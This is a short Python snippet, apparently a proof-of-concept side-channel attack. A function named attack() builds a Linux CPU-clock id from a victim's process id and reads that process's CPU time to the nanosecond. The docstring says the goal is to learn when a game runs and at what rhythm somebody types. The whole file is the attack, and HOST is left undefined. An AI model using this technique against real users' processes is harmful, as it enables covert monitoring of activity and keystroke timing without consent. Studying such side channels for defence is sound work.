"""Reads another process's CPU clock, to the nanosecond: when the game works, and at what rhythm somebody types."""

FULL = "EPERM", "seccomp"


def attack():
    import time

    return time.clock_gettime_ns(~HOST["victim"] << 3 | 2)  # what clock_getcpuclockid says; it asks nobody
